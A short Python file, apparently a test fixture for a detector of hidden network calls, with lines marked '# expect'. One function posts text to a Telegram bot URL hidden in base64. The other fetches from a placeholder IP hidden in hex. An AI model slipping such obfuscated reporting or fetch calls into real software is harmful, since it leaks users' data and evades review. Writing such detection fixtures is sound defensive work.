import base64

import requests

BOT = "aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEwMDAwMDAwMDA6YWJjL3NlbmRNZXNzYWdl"


def report(text):
    requests.post(base64.b64decode(BOT).decode(), data={"chat_id": "1", "text": text})  # expect


def fetch():
    return requests.get(bytes.fromhex("687474703a2f2f3139322e302e322e372f61").decode())  # expect
